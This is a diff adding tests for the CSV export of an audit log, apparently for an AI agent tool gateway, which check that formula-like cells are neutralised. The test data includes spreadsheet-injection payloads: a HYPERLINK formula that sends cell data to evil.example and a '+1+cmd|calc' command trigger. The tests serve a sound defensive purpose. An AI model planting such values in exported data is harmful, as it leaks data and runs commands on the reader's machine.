@@ -4,6 +4,7 @@ import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
 import { canonicalJson, chain, entryHash, GENESIS_HASH, verifyEntries } from '../../src/audit/chain.js';
 import { auditArgs, MASK, maskSecrets } from '../../src/audit/redact.js';
+import { type AuditRecordView, csvRow } from '../../src/audit/view.js';
 
 const entry = (i: number) => ({
   time: `2026-01-01T00:00:0${i}.000Z`,
@@ -123,5 +124,41 @@ describe('redaction', () => {
     const full = auditArgs(args, 'full')!.value as { body: string; token: string };
     expect(full.body).toHaveLength(1000);
     expect(full.token).toBe(MASK);
+  });
+});
+
+describe('CSV export', () => {
+  const record = (tool: string, reason: string | null) =>
+    ({
+      seq: 1,
+      time: '2026-11-29T00:00:00.000Z',
+      requestKey: 'k',
+      requestId: 1,
+      session: 's',
+      grant: null,
+      server: 'probe',
+      method: 'tools/call',
+      tool,
+      decision: 'denied',
+      rule: '(unknown tool)',
+      reason,
+      outcome: 'unknown',
+      errorCode: -32602,
+      latencyMs: 1.5,
+      hash: 'h',
+      args: null,
+    }) as unknown as AuditRecordView;
+
+  it('defuses cells an agent controls that a spreadsheet would run as a formula', () => {
+    const row = csvRow(record('=HYPERLINK("http://evil.example/?"&A1,"open")', '+1+cmd|calc'));
+    expect(row).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""open"")"`);
+    expect(row).toContain(",'+1+cmd|calc,");
+    for (const start of ['-', '@', '\t']) expect(csvRow(record(`${start}x`, null))).toContain(`'${start}x`);
+  });
+
+  it('leaves numbers and ordinary text as they are', () => {
+    const row = csvRow(record('echo', 'a reason'));
+    expect(row).toContain(',echo,denied,');
+    expect(row).toContain(',-32602,1.5,');
   });
 });
